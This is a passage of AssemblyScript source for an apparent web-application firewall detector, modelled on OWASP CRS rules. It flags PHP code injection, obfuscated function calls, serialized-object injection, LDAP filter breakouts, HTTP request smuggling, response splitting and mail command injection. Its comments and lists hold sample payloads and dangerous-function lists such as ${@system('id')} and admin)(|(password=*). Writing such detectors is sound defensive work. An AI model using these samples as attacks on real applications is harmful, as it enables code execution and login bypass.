function constantLoop(): bool {
  let i = jsTokenAfter(0);
  if (startsAt(i, "for")) {
    i = jsTokenAfter(i + 3);
    if (nb(i) != 0x28) return false;
    i = jsTokenAfter(i + 1);
    if (nb(i) != 0x3b) return false;
    i = jsTokenAfter(i + 1);
    return nb(i) == 0x3b && nb(jsTokenAfter(i + 1)) == 0x29;
  }
  if (!startsAt(i, "while")) return false;
  i = jsTokenAfter(i + 5);
  if (nb(i) != 0x28) return false;
  // A condition of one value is read for its truth (while(!true) never runs: not a loop); '!' before it flips it.
  let depth = 0, atoms = 0, bangs = 0, truthy = true;
  while (i < normLen) {
    const c = nb(i);
    if (c == 0x28 || c == 0x5b || c == 0x7b) { depth++; i++; continue; }
    if (c == 0x29 || c == 0x5d || c == 0x7d) { depth--; i++; if (depth == 0) break; if (c != 0x29) atoms++; continue; } // {} [] are values (true)
    if (c == 0x21) { if (atoms == 0) bangs++; i++; continue; }
    if (isSpace(c) || c == 0x2b || c == 0x2d) { i++; continue; }
    if (isDigit(c) || c == 0x2e) {
      let zero = true;
      while (i < normLen && (isDigit(nb(i)) || nb(i) == 0x2e)) { if (nb(i) != 0x30 && nb(i) != 0x2e) zero = false; i++; }
      if (atoms++ == 0) truthy = !zero;
      continue;
    }
    if (c == 0x22 || c == 0x27 || c == 0x60) { if (nb(i + 1) != c) return false; i += 2; if (atoms++ == 0) truthy = false; continue; } // "" '' ``
    if (isAlpha(c)) {
      let e = i;
      while (e < normLen && isAlpha(nb(e))) e++;
      let k = 0;
      while (k < LOOP_WORDS.length && !wordEquals(i, e, unchecked(LOOP_WORDS[k]))) k++;
      if (k == LOOP_WORDS.length) return false;
      i = e;
      if (atoms++ == 0) truthy = k == 0 || k >= 5; // false, null, undefined, NaN are false
      continue;
    }
    return false;
  }
  if (depth != 0 || atoms == 0) return false;
  if (atoms == 1 && truthy == ((bangs & 1) != 0)) return false;
  // Only a body, ';' or more closing parentheses may follow.
  for (; i < normLen; i++) { const c = nb(i); if (!(isSpace(c) || c == 0x3b || c == 0x29 || c == 0x7b || c == 0x7d)) return false; }
  return true;
}

// ---- PHP code (reported as cmdi) -----------------------------------------------------------------------------
// What only PHP code injected into a value holds (CRS 933130/933150/933160): a call of a function that
// decodes, runs, reaches out or lists the interpreter's state, by a name only PHP uses (base64_decode(…),
// shell_exec(…), call_user_func(…), get_defined_vars()), with spaces or /* comments */ before '(' as PHP
// allows; and PHP's request and server arrays, indexed ($_SERVER['…'], $_GET[…], $GLOBALS[…]). Generic names
// (system, exec, eval) are left to execCallAt, which wants a quoted or variable argument: "the system(s)".
const PHP_FUNCS: StaticArray<string> = ["base64_decode", "gzinflate", "gzuncompress", "gzdecode", "str_rot13", "convert_uudecode",
  "shell_exec", "proc_open", "pcntl_exec", "passthru", "call_user_func", "call_user_func_array", "create_function", "unserialize", "assert_options",
  "file_get_contents", "file_put_contents", "fsockopen", "pfsockopen", "stream_socket_client", "posix_getpwuid", "posix_getpwnam", "posix_kill",
  "get_defined_functions", "get_defined_vars", "get_defined_constants", "phpinfo", "show_source", "highlight_file", "ini_set", "putenv",
  "move_uploaded_file"];
const phpFirst = firstByteTable(PHP_FUNCS); // the names starting with a byte (a user agent has three calls to look at)
// More functions only PHP has that read the system, run code or reach out (CRS 933150's list without the everyday
// ones: no json_encode, array_map or is_array).
const PHP_FUNCS_2: StaticArray<string> = ["curl_exec", "curl_init", "curl_file_create", "bzdecompress", "escapeshellcmd", "escapeshellarg",
  "exif_read_data", "ftp_connect", "get_cfg_var", "get_current_user", "getmypid", "getmyuid", "gzdeflate", "gzencode", "readgzfile", "ini_get_all",
  "mysql_query", "odbc_exec", "parse_ini_file", "pg_query", "php_uname", "posix_getegid", "posix_geteuid", "posix_getlogin", "posix_mkfifo",
  "proc_terminate", "register_shutdown_function", "register_tick_function", "session_set_save_handler", "socket_create", "spl_autoload_register",
  "zlib_decode"];
const phpFirst2 = firstByteTable(PHP_FUNCS_2);
function phpFunctionIn(list: StaticArray<string>, table: usize, s: i32, e: i32): bool {
  let cand = load<u32>(table + (<usize>nb(s) << 2));
  while (cand != 0) {
    const k = ctz(cand);
    cand &= cand - 1;
    if (wordEquals(s, e, unchecked(list[k]))) return true;
  }
  return false;
}
// A listed name of 8 bytes or more ending a longer word ("FOOfsockopen(", "xgzinflate("): the name glued to junk
// that a lenient matcher or a string built around it leaves callable (CRS matches these inside words too).
function phpFunctionSuffix(list: StaticArray<string>, s: i32, e: i32): bool {
  for (let k = 0; k < list.length; k++) {
    const w = unchecked(list[k]);
    const m = w.length;
    if (m >= 8 && e - s > m && wordEquals(e - m, e, w)) return true;
  }
  return false;
}
const PHP_ARRAYS: StaticArray<string> = ["_get", "_post", "_server", "_cookie", "_request", "_files", "_env", "_session", "globals"];
function phpOnNormalized(): bool {
  if ((present & P_PAREN) && phpCallAt()) { lastRule = "cmdi:php-function"; return true; }
  // An XSLT stylesheet that calls PHP (xmlns:php="http://php.net/xsl", php:function('passthru', …)).
  if ((present & (P_PAREN | P_COLON)) == (P_PAREN | P_COLON) && indexOf("php:function(", 0) >= 0) { lastRule = "cmdi:xslt-php-function"; return true; }
  if ((present & P_DOLLAR) && phpArrayAt()) { lastRule = "cmdi:php-superglobal"; return true; }
  if ((present & (P_DOLLAR | P_PAREN)) == (P_DOLLAR | P_PAREN) && phpVariableCall()) { lastRule = "cmdi:php-variable-function"; return true; }
  if ((present & (P_DOLLAR_BRACE | P_PAREN)) == (P_DOLLAR_BRACE | P_PAREN) && phpSilencedCallInBraces()) { lastRule = "cmdi:php-complex-syntax"; return true; }
  return false;
}
// A call silenced with '@' inside "${…}", which PHP runs when it interpolates a string (eval'd or in a
// preg_replace /e replacement): ${@print(md5(31337))}, ${@system('id')}. No template language writes "${@".
function phpSilencedCallInBraces(): bool {
  for (let i = indexOf("${@", 0); i >= 0; i = indexOf("${@", i + 3)) {
    let e = i + 3;
    while (e < normLen && isWordByte(nb(e))) e++;
    if (e > i + 3 && nb(phpTokenAfter(e)) == 0x28) return true;
  }
  return false;
}
// Outside phpOnNormalized's gate ('(' or '$'): a serialized object has neither.
function phpObjectOnNormalized(): bool {
  if ((present & (P_QUOTE | P_COLON | P_BRACE)) == (P_QUOTE | P_COLON | P_BRACE) && phpSerializedObject()) { lastRule = "cmdi:php-serialized-object"; return true; }
  return false;
}

// PHP calls a function named by a variable: the shapes that hide which one (CRS 933180), each then '(':
// ${…}(, $name[…] or $name{…} (indexed, any depth), $$name(, @$name( (errors suppressed), ->$name( and
// ::$name( (a method named by a variable); blanks and PHP comments (/* */, #…, //… to the line's end) may
// stand between the parts. A plain $name( is left alone: $t('key') and $emit('x') are templates of Vue, and
// a '$' after '.' is a JavaScript property (this.$refs['x']()).
function phpVariableCall(): bool {
  for (let i = indexOf("$", 0); i >= 0 && i + 2 < normLen; i = indexOf("$", i + 1)) {
    if (inFence(i)) continue;
    const before = i > 0 ? nb(i - 1) : 0;
    if (before == 0x2e || before == 0x24) continue; // .$x: JavaScript; $$x is read from its first '$'
    let j = i + 1;
    let hidden = before == 0x40 || (before == 0x3e && i > 1 && nb(i - 2) == 0x2d) || (before == 0x3a && i > 1 && nb(i - 2) == 0x3a); // @$ ->$ ::$
    while (nb(j) == 0x24) { j++; hidden = true; } // $$name
    j = phpTokenAfter(j);
    if (nb(j) == 0x7b) { // ${…}
      const e = closingOf(j, 0x7b, 0x7d);
      if (e < 0 || phpTokenAfter(j + 1) >= e) continue; // ${}( is no PHP
      j = e + 1; hidden = true;
    } else {
      const s = j;
      while (j < normLen && (isWordByte(nb(j)) || nb(j) >= 0x80)) j++;
      if (j == s || isDigit(nb(s))) continue;
      // A plain $name called with a number ($a(1), $_(3), $OOO0000O0 (16), blanks and line breaks allowed):
      // obfuscated PHP builds its calls so; Vue's $t('key') takes a string, jQuery's $(…) has no name.
      if (!hidden && before != 0x2e && integerCallAfter(j)) return true;
    }
    // Indexes: [...] or {...}, any number, comments between.
    for (let guard = 0; guard < 16; guard++) {
      const k = phpTokenAfter(j);
      const c = nb(k);
      // Before '(' only a comment counts as a gap ("$arr[1] (one)" in words is no call; "$f /*x*/ (1)" is).
      if (c != 0x5b && c != 0x7b) { j = k < normLen && (k == j || commentIn(j, k)) ? k : normLen; break; }
      const e = closingOf(k, c, c == 0x5b ? 0x5d : 0x7d);
      if (e < 0 || phpTokenAfter(k + 1) >= e) { j = normLen; break; } // $a[]( and $a{}( are no PHP calls
      j = e + 1; hidden = true;
    }
    if (hidden && nb(j) == 0x28) return true;
  }
  return false;
}
// Blanks, '(', an integer of up to six digits, ')' from i.
function integerCallAfter(i: i32): bool {
  let k = skipBlanks(i);
  if (nb(k) != 0x28) return false;
  k = skipBlanks(k + 1);
  const d = k;
  while (k < normLen && k - d < 7 && isDigit(nb(k))) k++;
  if (k == d || k - d > 6) return false;
  return nb(skipBlanks(k)) == 0x29;
}
// The index of the bracket closing the one at i (nested ones counted; 64 bytes at most), or -1.
function closingOf(i: i32, open: u32, close: u32): i32 {
  let depth = 0;
  const end = i + 64 < normLen ? i + 64 : normLen;
  for (let k = i; k < end; k++) {
    const c = nb(k);
    if (c == open) depth++;
    else if (c == close) { depth--; if (depth == 0) return k; }
  }
  return -1;
}
function phpCallAt(): bool {
  for (let i = 1; i < normLen; i++) {
    i = nextInSet(normPtr, i, normLen, SET_LPAREN);
    if (i >= normLen) break;
    if (nb(i) != 0x28 || inFence(i)) continue;
    // Back over blanks and comments to the name's end.
    const e = jsTokenEndBefore(i);
    // A function named by a string and called: "system"(ls), 'exec'('id') (PHP calls a string that names a
    // function; the quote right before '(': in prose a quoted word is followed by a blank).
    const q = nb(i - 1);
    if ((q == 0x22 || q == 0x27) && e == i && quotedCallableStart(i - 1, false) >= 0) return true;
    let s = e;
    while (s > 0 && (isAlpha(nb(s - 1)) || isDigit(nb(s - 1)) || nb(s - 1) == 0x5f)) s--;
    // A comment between a name and '(' is code, not prose: exec/*x*/(), system #c\n (…), touch //c\n ().
    // (jsTokenEndBefore gives 0 when no name ends within GAP_CAP: the gap is then not read, or "*/(" repeated
    // would read the whole value before each '('.)
    if (e > 0 && i - e <= GAP_CAP && commentIn(e, i) && riskyPhpCall(s, e)) return true;
    if (e == i - 1 || isSpace(nb(i - 1))) { const c = lineCommentCallAt(i); if (c) return true; }
    const len = e - s;
    // ('system')('whoami'): the name as a string in parentheses, called.
    if (e == i && nb(i - 1) == 0x29 && parenthesizedCallable(i - 1)) return true;
    if (len < 5 || len > 40) continue;
    if (phpFunctionIn(PHP_FUNCS, phpFirst, s, e) || phpFunctionIn(PHP_FUNCS_2, phpFirst2, s, e)) return true;
    if (len > 8 && (phpFunctionSuffix(PHP_FUNCS, s, e) || phpFunctionSuffix(PHP_FUNCS_2, s, e))) return true;
  }
  return false;
}
// The ')' at c closes "( 'name' )" with a listed callable inside (blanks allowed around and inside the quotes).
function parenthesizedCallable(c: i32): bool {
  let j = c - 1;
  while (j > 0 && j > c - 40 && isSpace(nb(j))) j--;
  const q = nb(j);
  if (q != 0x22 && q != 0x27) return false;
  let p = quotedCallableStart(j, true) - 1;
  if (p < -1) return false;
  while (p >= 0 && isSpace(nb(p))) p--;
  return p >= 0 && nb(p) == 0x28;
}
// PHP functions that run commands or code or touch files: called with a comment before their '(' (a gap no
// prose and no ordinary code writes), each is an attack (CRS 933160/933161).
const PHP_RISKY_CALLS: StaticArray<string> = ["exec", "system", "passthru", "popen", "shell_exec", "proc_open", "pcntl_exec", "eval", "assert", "file",
  "readfile", "fopen", "fwrite", "fputs", "unlink", "symlink", "link", "touch", "chmod", "chown", "serialize", "unserialize", "include", "require",
  "phpinfo", "highlight_file", "show_source", "file_exists", "file_get_contents", "file_put_contents", "mail", "putenv", "ini_set", "dl",
  "create_function", "call_user_func", "preg_replace", "base64_decode", "str_rot13", "gzinflate", "unpack", "substr", "intval"];
function riskyPhpCall(s: i32, e: i32): bool {
  if (e - s < 2 || e - s > 20) return false;
  for (let k = 0; k < PHP_RISKY_CALLS.length; k++) if (wordEquals(s, e, unchecked(PHP_RISKY_CALLS[k]))) return true;
  return false;
}
// '(' at i starts a line whose previous line ends in a PHP line comment after a risky name:
// "exec #comment\n (blah)", "exec //c\r\n ()". Back over the blanks and line breaks to the comment's line.
function lineCommentCallAt(i: i32): bool {
  let k = i;
  let crossed = false;
  while (k > 0 && k > i - GAP_CAP && isSpace(nb(k - 1))) { if (nb(k - 1) == 0x0a) crossed = true; k--; }
  if (!crossed) return false;
  let ls = k;
  while (ls > 0 && k - ls < GAP_CAP && nb(ls - 1) != 0x0a) ls--;
  for (let c = ls; c < k; c++) {
    if (nb(c) != 0x23 && !(nb(c) == 0x2f && nb(c + 1) == 0x2f)) continue;
    if (nb(c) == 0x23 && isDigit(nb(c + 1))) return false; // "file #3": a number, not a comment
    let e = c;
    while (e > ls && isSpace(nb(e - 1))) e--;
    let s = e;
    while (s > ls && (isAlpha(nb(s - 1)) || isDigit(nb(s - 1)) || nb(s - 1) == 0x5f)) s--;
    return (s == 0 || !isWordByte(nb(s - 1))) && riskyPhpCall(s, e);
  }
  return false;
}
// The functions that run a command or code, as the quoted name of a call ("system"(…)).
const PHP_STRING_CALLABLES: StaticArray<string> = ["system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "assert",
  "create_function", "call_user_func", "include", "require", "phpinfo"];
// The quote at `close` ends a listed callable's name quoted ("system", 'exec'; with blanks inside the quotes when
// `blanks`: ("system  ")): the index of the opening quote, or -1.
function quotedCallableStart(close: i32, blanks: bool): i32 {
  const quote = nb(close);
  let e = close;
  if (blanks) while (e > 0 && isSpace(nb(e - 1))) e--;
  let s = e;
  while (s > 0 && (isAlpha(nb(s - 1)) || nb(s - 1) == 0x5f)) s--;
  let o = s;
  if (blanks) while (o > 0 && isSpace(nb(o - 1))) o--;
  if (s == e || nb(o - 1) != quote) return -1;
  for (let k = 0; k < PHP_STRING_CALLABLES.length; k++) if (wordEquals(s, e, unchecked(PHP_STRING_CALLABLES[k]))) return o - 1;
  return -1;
}
// A function name hidden by concatenating quoted pieces (CRS 933210, PHP "sys"."tem"; VBScript
// "Ex"&"e"&"cute(…"; JavaScript 'ev'+'al'; SQL 'sys'||'tem'): literals joined by . + & || or set side by side
// (a '+' read as a blank), comments and parentheses between them, whose joined text is a callable that runs
// code or a dialog, alone or called. Only the split spells the name: no piece holds it whole. VBScript's
// doubled quote ("") stands for a quote inside a literal. Returns the class (Cmdi, Xss) or None.
const CONCAT_CAP: i32 = 24;
const concatText = memory.data(24);
const CONCAT_CMDI: StaticArray<string> = ["system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "assert", "eval",
  "execute", "executeglobal", "create_function", "call_user_func", "function"];
const CONCAT_XSS: StaticArray<string> = ["alert", "prompt", "confirm"];
const SET_QUOTES = byteSet("'\"");
function concatenatedCallable(): AttackClass {
  let i = nextInSet(normPtr, 0, normLen, SET_QUOTES);
  while (i < normLen) {
    const c = nb(i);
    if (c != 0x22 && c != 0x27) { i = nextInSet(normPtr, i + 1, normLen, SET_QUOTES); continue; }
    let j = i, w = 0, pieces = 0, first = -1;
    while (j < normLen) {
      const q = nb(j);
      if (q != 0x22 && q != 0x27) break;
      let k = j + 1, len = 0;
      while (k < normLen) {
        let d = nb(k);
        if (d == q) { if (q == 0x22 && nb(k + 1) == 0x22) k++; else break; }
        else if (d == 0x5c && k + 1 < normLen) d = nb(++k);
        if (w < CONCAT_CAP) store<u8>(concatText + <usize>(w++), <u8>d);
        len++; k++;
      }
      pieces++;
      if (first < 0) first = len;
      j = k + 1;
      if (k >= normLen) break;
      // Between pieces: blanks, comments and ')' / '('; then an operator, or the next quote right away.
      let g = jsTokenAfter(j);
      while (g < normLen && nb(g) == 0x29) g = jsTokenAfter(g + 1);
      const o = nb(g);
      if (o == 0x2e || o == 0x2b || o == 0x26) g++;
      else if (o == 0x7c && nb(g + 1) == 0x7c) g += 2;
      else if (g == j || !(o == 0x22 || o == 0x27)) break;
      g = jsTokenAfter(g);
      while (g < normLen && nb(g) == 0x28) g = jsTokenAfter(g + 1);
      j = g;
    }
    if (pieces >= 2) {
      const found = concatenatedName(w, first);
      if (found != AttackClass.None) return found;
    }
    i = j > i ? j : i + 1;
  }
  return AttackClass.None;
}
// The joined text (w bytes kept) names a listed callable, alone or before '(' (blanks between), and the first
// piece (`first` bytes) is shorter than the name: the name is split.
function concatenatedName(w: i32, first: i32): AttackClass {
  for (let l = 0; l < 2; l++) {
    const names = l == 0 ? CONCAT_CMDI : CONCAT_XSS;
    for (let k = 0; k < names.length; k++) {
      const name = unchecked(names[k]);
      const m = name.length;
      if (w < m || first >= m) continue;
      let same = true;
      for (let x = 0; x < m; x++) if (<u32>load<u8>(concatText + <usize>x) != ch(name, x)) { same = false; break; }
      if (!same) continue;
      let e = m;
      while (e < w && isSpace(<u32>load<u8>(concatText + <usize>e))) e++;
      if (m == w || (e < w && load<u8>(concatText + <usize>e) == 0x28)) return l == 0 ? AttackClass.Cmdi : AttackClass.Xss;
    }
  }
  return AttackClass.None;
}

// A callable's bare name inside brackets or parentheses, indexed or not, then called (CRS 933210): (system)(ls),
// [system][0](ls), ( [ system ][ 0 ]) {/* c */0} ( ls ), (/* c */system)(ls). Code needs an index, or a ')' or
// '}' with no blank-only gap before the call: "[system](url)" (a Markdown link), "see [exec] (below)" and
// "the (exec) (2)" are no calls.
const SET_OPENERS = byteSet("([");
function bracketedCallable(): bool {
  for (let i = nextInSet(normPtr, 0, normLen, SET_OPENERS); i < normLen; i = nextInSet(normPtr, i + 1, normLen, SET_OPENERS)) {
    const o = nb(i);
    if (o != 0x5b && o != 0x28) continue;
    let s = jsTokenAfter(i + 1);
    if (s < normLen && (nb(s) == 0x22 || nb(s) == 0x27)) s++;
    let e = s;
    while (e < normLen && (isAlpha(nb(e)) || nb(e) == 0x5f)) e++;
    if (e - s < 4 || e - s > 15 || (s > 0 && (isAlpha(nb(s - 1)) || isDigit(nb(s - 1))))) continue;
    let listed = wordEquals(s, e, "eval");
    for (let k = 0; !listed && k < PHP_STRING_CALLABLES.length; k++) listed = wordEquals(s, e, unchecked(PHP_STRING_CALLABLES[k]));
    if (!listed) continue;
    let j = e;
    if (nb(j) == 0x22 || nb(j) == 0x27) j++;
    let closers = 0, indexed = false, parens = false, blankGap = false;
    for (let guard = 0; guard < 8; guard++) {
      const g = jsTokenAfter(j);
      blankGap = g != j && !commentIn(j, g);
      j = g;
      const c = nb(j);
      if (c == 0x5d || c == 0x29 || c == 0x7d) { closers++; if (c != 0x5d) parens = true; j++; continue; }
      if (c == 0x5b || c == 0x7b) { // an index: [0], { /* c */ 0 }, ['x']
        const close = closingOf(j, c, c == 0x5b ? 0x5d : 0x7d);
        if (close < 0) break;
        indexed = true; j = close + 1; continue;
      }
      break;
    }
    if (closers > 0 && nb(j) == 0x28 && (indexed || (parens && !blankGap))) return true;
  }
  return false;
}

// A serialized PHP object (CRS 933170): O:<length>:"<class>":<count>:{…} (C: for a custom serializer).
// unserialize() of one builds any class the application loads and runs its magic methods (object injection).
function phpSerializedObject(): bool {
  for (let i = indexOf(":\"", 0); i >= 0; i = indexOf(":\"", i + 2)) {
    // Back over the length's digits to "o:" or "c:" at a word start.
    let d = i;
    while (d > 0 && isDigit(nb(d - 1))) d--;
    if (d == i || d < 2 || nb(d - 1) != 0x3a) continue;
    const t = nb(d - 2);
    if ((t != 0x6f && t != 0x63) || (d > 2 && (isWordByte(nb(d - 3)) || nb(d - 3) == 0x3a))) continue;
    // The class name, its closing quote, ':' and the property count, ':{'.
    let j = i + 2;
    const ns = j;
    while (j < normLen && (isWordByte(nb(j)) || nb(j) == 0x5c)) j++;
    if (j == ns || nb(j) != 0x22 || nb(j + 1) != 0x3a) continue;
    j += 2;
    const ds = j;
    while (isDigit(nb(j))) j++;
    if (j > ds && nb(j) == 0x3a && nb(j + 1) == 0x7b) return true;
  }
  return false;
}
function phpArrayAt(): bool {
  for (let i = indexOf("$", 0); i >= 0 && i + 4 < normLen; i = indexOf("$", i + 1)) {
    if (inFence(i)) continue;
    let e = i + 1;
    while (e < normLen && (isAlpha(nb(e)) || nb(e) == 0x5f)) e++;
    let b = e;
    while (b < normLen && isSpace(nb(b))) b++;
    if (nb(b) != 0x5b) continue;
    for (let k = 0; k < PHP_ARRAYS.length; k++) if (wordEquals(i + 1, e, unchecked(PHP_ARRAYS[k]))) return true;
  }
  return false;
}

// ---- Protocol abuse inside a value (class protocol) ---------------------------------------------------------
// A value that a back end copies into a request it sends or a response it writes (a redirect target, a
// header, a proxied request line) smuggles a second message or header when it carries a line break before
// protocol text (CRS 921110-921160): a request line ("x\nGET / HTTP/1.1"), a header that frames or steers a
// response ("\r\nContent-Length: 0", "\nSet-Cookie:", "\nX-Forwarded-For:"), or, after an empty line, a
// status line or an HTML document (a forged second response). Headers named by everyday words (Location, Host,
// Via, Date) are not counted: "Location: Berlin" starts lines of ordinary multi-line text. A value that is a
// request line and nothing more (an access log's "GET /a HTTP/1.1") is left alone; followed by a line break it
// is a raw request. And an LDAP search filter broken out of (CRS 921200): the value closes a parenthesis it
// never opened and starts a filter component: "admin)(|(password=*)", "x)(uid=*", "*)!(sn=*", "x)&(cn=a".
const HTTP_METHODS: StaticArray<string> = ["get", "post", "head", "put", "delete", "patch", "options", "connect", "trace", "track",
  "propfind", "proppatch", "mkcol", "copy", "move", "lock", "unlock", "search"];
const SPLIT_HEADERS: StaticArray<string> = ["content-length", "content-type", "content-encoding", "content-disposition", "content-security-policy",
  "transfer-encoding", "set-cookie", "set-cookie2", "refresh", "x-forwarded-for", "x-forwarded-host", "x-forwarded-proto", "x-forwarded-server",
  "x-real-ip", "x-original-url", "x-rewrite-url", "remote-addr", "remote-ip", "remote-host", "originating-ip", "x-originating-ip", "x-client-ip",
  "access-control-allow-origin", "access-control-allow-credentials", "x-xss-protection", "x-frame-options", "x-content-type-options",
  "strict-transport-security", "cache-control", "last-modified", "www-authenticate", "proxy-authorization", "authorization"];
@inline function isBreak(c: u32): bool { return c == 0x0a || c == 0x0d; }
@inline function isBlankByte(c: u32): bool { return c == 0x20 || c == 0x09; }
function protocolOnNormalized(f: u32): bool {
  if ((f & P_BREAK) != 0 && (requestLineAt(0, true) || splitAfterBreak())) return true;
  if ((f & P_PAREN) != 0 && (ldapBreakout() || ldapFilterValue())) { lastRule = "protocol:ldap-injection"; return true; }
  if ((f & (P_COLON | P_EQ)) == (P_COLON | P_EQ) && ldapExtensibleMatch()) { lastRule = "protocol:ldap-injection"; return true; }
  return false;
}
// A whole LDAP filter where a value was expected, shaped to widen or probe the application's search rather
// than to search: after a wildcard ("*(|(objectclass=*))": the value closes the application's comparison with
// '*' and adds a filter of its own), or holding a constant comparison ("(1=0)", "(&)", "(|)") or a comparison
// on the password attribute ("(&(uid=admin)(!(&(1=0)(userPassword=q))))"). A directory tool's own filter
// ("(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))", CRS 921200's legitimate
// case) is neither. No text opens with "(&(" or "(|(".
function ldapFilterValue(): bool {
  let j = 0;
  while (isBlankByte(nb(j))) j++;
  const wildcard = nb(j) == 0x2a;
  if (wildcard) j++;
  if (nb(j) != 0x28) return false;
  j++;
  while (isBlankByte(nb(j))) j++;
  const c = nb(j);
  if (!(c == 0x26 || c == 0x7c || c == 0x21)) return false;
  j++;
  while (isBlankByte(nb(j))) j++;
  if (nb(j) != 0x28) return false;
  let k = j + 1;
  while (isBlankByte(nb(k))) k++;
  if (!(nb(k) == 0x28 || ldapComparison(k) >= 0)) return false;
  if (wildcard) return true;
  return ldapConstantItem() || ldapPasswordComparison();
}
// "(1=0)", "(1=1)" (digits on both sides), "(&)", "(|)": items that are always true or false.
function ldapConstantItem(): bool {
  for (let i = indexOf("(", 0); i >= 0; i = indexOf("(", i + 1)) {
    let k = i + 1;
    if ((nb(k) == 0x26 || nb(k) == 0x7c) && nb(k + 1) == 0x29) return true;
    if (!isDigit(nb(k))) continue;
    while (isDigit(nb(k))) k++;
    if (nb(k) != 0x3d || !isDigit(nb(k + 1))) continue;
    k++;
    while (isDigit(nb(k))) k++;
    if (nb(k) == 0x29) return true;
  }
  return false;
}
// A comparison on the password attribute: userPassword=, unicodePwd= (or an extensible match on it).
function ldapPasswordComparison(): bool {
  for (let i = indexOf("password", 0); i >= 0; i = indexOf("password", i + 8)) {
    const c = nb(i + 8);
    if (c == 0x3d || c == 0x3a || ((c == 0x3c || c == 0x3e || c == 0x7e) && nb(i + 9) == 0x3d)) return true;
  }
  const u = indexOf("unicodepwd", 0);
  return u >= 0 && (nb(u + 10) == 0x3d || nb(u + 10) == 0x3a);
}
// An extensible match on the password attribute, which names a matching rule by its OID or matches on the
// entry's DN to test a password byte by byte ("userPassword:2.5.13.18:=123", "userPassword:dn:=x"). Directory
// tools use extensible matches on other attributes (Active Directory's bit-AND rule on userAccountControl).
function ldapExtensibleMatch(): bool {
  for (let i = indexOf(":=", 1); i >= 0; i = indexOf(":=", i + 2)) {
    let s = i;
    while (s > 0 && (isDigit(nb(s - 1)) || nb(s - 1) == 0x2e)) s--;
    let dots = 0;
    for (let k = s; k < i; k++) if (nb(k) == 0x2e) dots++;
    const oid = s < i && isDigit(nb(i - 1)) && isDigit(nb(s)) && dots > 0;
    const dn = !oid && i >= 3 && nb(i - 1) == 0x6e && nb(i - 2) == 0x64 && nb(i - 3) == 0x3a;
    if (!oid && !dn) continue;
    const a = oid ? s - 1 : i - 3; // the ':' before the OID or "dn"
    if (a < 8 || nb(a) != 0x3a) continue;
    if (wordEndsAt(a, "password") || wordEndsAt(a, "unicodepwd")) return true;
  }
  return false;
}
function wordEndsAt(e: i32, w: string): bool { const s = e - w.length; return s >= 0 && startsAt(s, w); }

// After each run of line breaks: a request line, a header that frames or steers the response, or after an
// empty line a status line or an HTML document.
function splitAfterBreak(): bool {
  let i = 0;
  while (i < normLen) {
    while (i < normLen && !isBreak(nb(i))) i++;
    if (i >= normLen) break;
    const s = i;
    let lf = 0, cr = 0;
    while (i < normLen && (isBreak(nb(i)) || isBlankByte(nb(i)))) { if (nb(i) == 0x0a) lf++; else if (nb(i) == 0x0d) cr++; i++; }
    if (i >= normLen) break;
    // "\r\n\r\n", "\n\n", or "\r\r": an empty line.
    const emptyLine = lf >= 2 || (lf == 0 && cr >= 2);
    if (requestLineAt(i, false)) { lastRule = "protocol:request-smuggling"; return true; }
    if (headerLineAt(i)) { lastRule = "protocol:response-splitting"; return true; }
    if (mailCommandAt(i, s == 0)) { lastRule = "protocol:mail-command-injection"; return true; }
    if (emptyLine && s > 0 && (statusLineAt(i) || startsAt(i, "<html") || startsAt(i, "<meta"))) { lastRule = "protocol:response-splitting"; return true; }
  }
  return false;
}
// A request line at i: method, blanks, a target, blanks, "http/" and a digit. At the value's start it counts
// only when a line break follows it (a raw request, not a logged request line).
function requestLineAt(i: i32, atStart: bool): bool {
  const c = nb(i);
  if (c - 0x61 >= 26 || (i > 0 && !isBreak(nb(i - 1)) && !isBlankByte(nb(i - 1)))) return false;
  let e = i;
  while (e < normLen && nb(e) - 0x61 < 26) e++;
  if (e - i < 3 || e - i > 9 || !isBlankByte(nb(e))) return false;
  let known = false;
  for (let k = 0; k < HTTP_METHODS.length && !known; k++) known = wordEquals(i, e, unchecked(HTTP_METHODS[k]));
  if (!known) return false;
  let j = e;
  while (isBlankByte(nb(j))) j++;
  const t = j;
  while (j < normLen && nb(j) > 0x20) j++;
  if (j == t || j - t > 2048 || !isBlankByte(nb(j))) return false;
  while (isBlankByte(nb(j))) j++;
  if (!startsAt(j, "http/") || !isDigit(nb(j + 5))) return false;
  if (!atStart) return true;
  j += 6;
  while (j < normLen && !isBreak(nb(j))) j++;
  if (j >= normLen) return false;
  lastRule = "protocol:request-smuggling";
  return true;
}
// A header line at i: a name from SPLIT_HEADERS, optional blanks, ':'.
function headerLineAt(i: i32): bool {
  const c = nb(i);
  if (c != 0x63 && c != 0x74 && c != 0x73 && c != 0x72 && c != 0x78 && c != 0x6f && c != 0x61 && c != 0x6c && c != 0x77 && c != 0x70) return false;
  let e = i;
  while (e < normLen && (nb(e) - 0x61 < 26 || nb(e) == 0x2d || isDigit(nb(e)))) e++;
  let j = e;
  while (isBlankByte(nb(j))) j++;
  if (nb(j) != 0x3a) return false;
  for (let k = 0; k < SPLIT_HEADERS.length; k++) if (wordEquals(i, e, unchecked(SPLIT_HEADERS[k]))) return true;
  return false;
}
// A mail protocol command at i (SMTP, POP3, IMAP: CRS 932300-932321), smuggled into a conversation a back end
// holds with a mail server: the commands with their argument shape ("mail from:<…>", "rcpt to:", "ehlo host",
// "retr 1", "top 1 2", "a001 select inbox"); a command word alone on its line ("quit", "data") only when the
// value starts with the line break (a line of prose may be one word).
const MAIL_ALONE: StaticArray<string> = ["quit", "data", "rset", "noop", "help", "starttls", "stls", "capa", "stat", "uidl", "logout", "capability"];
const IMAP_COMMANDS: StaticArray<string> = ["select", "examine", "login", "fetch", "store", "uid", "list", "logout", "capability", "authenticate", "copy", "search"];
function mailCommandAt(i: i32, valueStart: bool): bool {
  if (startsAt(i, "mail from:") || startsAt(i, "rcpt to:") || startsAt(i, "vrfy ") || startsAt(i, "expn ")) return true;
  if ((startsAt(i, "ehlo ") || startsAt(i, "helo ")) && isWordByte(nb(i + 5))) return true;
  if (startsAt(i, "auth ") && (startsAt(i + 5, "plain") || startsAt(i + 5, "login") || startsAt(i + 5, "cram-md5") || startsAt(i + 5, "xoauth2") ||
      (valueStart && isWordByte(nb(i + 5))))) return true;
  if (startsAt(i, "apop ") || startsAt(i, "user ") && valueStart || startsAt(i, "pass ") && valueStart) return true;
